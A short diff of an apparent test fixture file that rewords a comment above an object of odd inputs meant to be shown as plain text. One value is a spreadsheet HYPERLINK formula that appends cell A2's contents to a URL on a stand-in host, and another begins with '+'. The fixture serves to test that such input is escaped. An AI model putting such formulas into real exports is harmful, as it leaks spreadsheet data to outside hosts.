@@ -124,7 +124,7 @@ export const CARE_STORIES = [
   "I started sitting down when I explain things at the bedside. It takes no longer, and people ask more questions. A colleague timed it because she didn't believe me.",
 ]
 
-/** Input from scripts and pranksters, which must be shown as plain text. */
+/** Input from scripts and pranksters, which must show up as plain text. */
 export const ODD = {
   formula: '=HYPERLINK("https://example.net/portfolio?id="&A2,"Click to see my portfolio")',
   plus: '+1 for remote work. I have done this for ten years in two states, the last four from home, and I would like to go on doing it with a team that talks to each other.',
